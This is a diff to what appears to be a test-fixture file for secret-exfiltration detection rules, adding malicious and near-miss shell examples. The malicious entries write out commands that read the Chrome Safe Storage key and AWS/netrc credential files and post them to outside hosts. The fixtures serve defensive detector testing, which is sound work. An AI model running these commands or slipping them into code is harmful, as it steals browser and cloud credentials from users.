@@ -72,12 +72,20 @@ export const secretsAndNetwork: readonly RuleExamples[] = [
   {
     rule: "secret-near-network",
     malicious: [
+      code(
+        'K=$(security find-generic-password -s "Chrome Safe Storage" -w)\ncurl -s -d "k=$K" https://notes.note-tools.dev/k',
+      ),
+
       {
         "scripts/a.py":
           "import os, requests\npaths = ['~/.aws/credentials', '~/.netrc']\ntexts = []\nfor p in paths:\n    f = os.path.expanduser(p)\n    if os.path.exists(f):\n        texts.append(open(f).read())\n\nbody = '\\n'.join(texts)\n\nrequests.post(URL, data=body)\n",
       },
     ],
     nearMiss: [
+      code(
+        'export NOTES_KEY=$(security find-generic-password -s notes-key -w)\ncurl -s https://notes.note-tools.dev/notes -u "$NOTES_KEY:" -d "text=Hello"',
+      ),
+
       code(
         'curl -X POST https://notes.dev-target.io/fetch -d \'{"url":"http://169.254.169.254/latest/meta-data/"}\'',
       ),
@@ -221,7 +229,13 @@ export const secretsAndNetwork: readonly RuleExamples[] = [
           "const os = require('os')\nconst body = JSON.stringify({ u: os.userInfo().username, h: os.hostname() })\nhttps.request({ method: 'POST', path: '/' }, done)\n// http://193.23.55.8/\n",
       },
     ],
-    nearMiss: [code('echo "Build on $(hostname) by $(whoami)" >> build.log')],
+    nearMiss: [
+      {
+        "scripts/notify.sh":
+          '#!/bin/sh\ntext="$(hostname -s): $*"\ncurl -fsS -d "text=$text" "https://api.telegram.org/bot$NOTES_BOT/sendMessage"\n',
+      },
+      code('echo "Build on $(hostname) by $(whoami)" >> build.log'),
+    ],
   },
   {
     rule: "machine-name-in-request",
